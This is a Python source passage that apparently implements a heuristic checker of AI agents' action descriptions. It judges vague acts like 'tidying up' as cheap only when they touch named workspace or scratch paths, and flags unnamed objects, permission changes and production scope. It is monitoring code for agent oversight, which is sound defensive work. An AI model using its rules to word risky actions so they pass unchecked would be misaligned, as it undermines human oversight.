    j = i
    if t.low == QUOTE_TOKEN.lower() and i + 1 < len(tokens) and tokens[i + 1].low in INSTRUCTION_SOURCES:
        j = i + 1
    elif t.low not in INSTRUCTION_SOURCES:
        return False
    for k in range(j - 1, max(-1, j - 5), -1):
        w = tokens[k].low
        if w in SOURCE_PREPOSITIONS:
            return True
        if w not in STOPWORDS and w not in FUNCTION_WORDS and w != QUOTE_TOKEN.lower():
            return False
    return False


def _modifier_only(t: Tok) -> bool:
    """An out-of-vocabulary word that can only modify (a possessive, an adverb, an adjective or a
    participle by its ending) is not a target: "the user's request", "the corrective change"."""
    low = t.low
    if t.kind == "word" and (low.endswith("'s") or low.endswith("s'")):
        return True
    if t.kind != "word" or t.obj is not None or low in LEXICON:
        return False
    return len(low) > 5 and low.endswith(("ly", "ive", "ous", "ful", "able", "ible", "ed"))


# What an act that says nothing about itself ("tidying", "sorting out") may touch and stay cheap: the
# workspace's own files, code and regenerable output, all of it restorable from version control.
VAGUE_CHEAP = frozenset({Obj.CODE, Obj.CODE_PART, Obj.TEXT, Obj.EPHEMERAL, Obj.CONTAINER})


def _vague_is_cheap(frame: Frame, kinds: set[Obj], scope: list[str], ctx: Context) -> bool:
    """A vague act is cheap only on named workspace things, not everywhere, not on production; on a
    named non-production environment it is a development chore ("clean up the local dev cluster").
    With nothing named at all ("cleaning up: removing X"), the rest of the hint says what is done."""
    if scope or ctx.prod:
        return False
    if frame.permission or frame.words & _ACCESS_WORDS:
        return False  # "sorting out the permissions": who may do what, granted or taken away unsaid
    if not kinds and _unnamed_object(frame) and not ctx.nonprod:
        return False  # "taking care of it", "handling the rest": acts on something never named
    if ctx.nonprod or not kinds:
        return True
    if kinds == {Obj.CONTAINER} and not frame.paths and not frame.narrowed:
        return False  # "tidying up the files we don't need", "the unused resources": which ones, unsaid
    if frame.paths and all(t.path_class in SCRATCH_CLASSES for t in frame.paths):
        return True  # "cleaning up the old logs in /tmp/app": whatever it is, it lives in scratch
    return kinds <= VAGUE_CHEAP and all(t.path_class in WORKSPACE_CLASSES for t in frame.paths)


# Stand-ins for an object: pronouns, "the rest", and an act's own noun ("doing the cleanup", "running
# the purge"), which says what kind of act, never on what.
# A symptom is no object either: "make the errors go away" says what should stop showing, not what is
# changed to that end
_UNNAMED = PRONOUNS | words("this that everything rest stuff things remaining whatever cleanup clean-up "
                            "purge teardown wipe errors error warnings failures problem problems")
_ACCESS_WORDS = words("access acl acls iam rbac role roles policy policies grant grants sharing")


def _unnamed_object(frame: Frame) -> bool:
    """The vague verb's object is a stand-in ("taking care of it"), not a subject before it ("what it
    actually does")."""
    vague = {v.split()[0] for a, v in frame.verbs if a is Act.VAGUE}
    first = next((i for i, w in enumerate(frame.order) if w in vague or lemma(w) in vague), None)
    return first is not None and any(w in _UNNAMED for w in frame.order[first + 1 :])
# Path classes (see `_path_info`) inside the workspace or its scratch space.
SCRATCH_CLASSES = frozenset({"regenerable", "scratch", "log", "lock"})
WORKSPACE_CLASSES = SCRATCH_CLASSES | {"project", None}
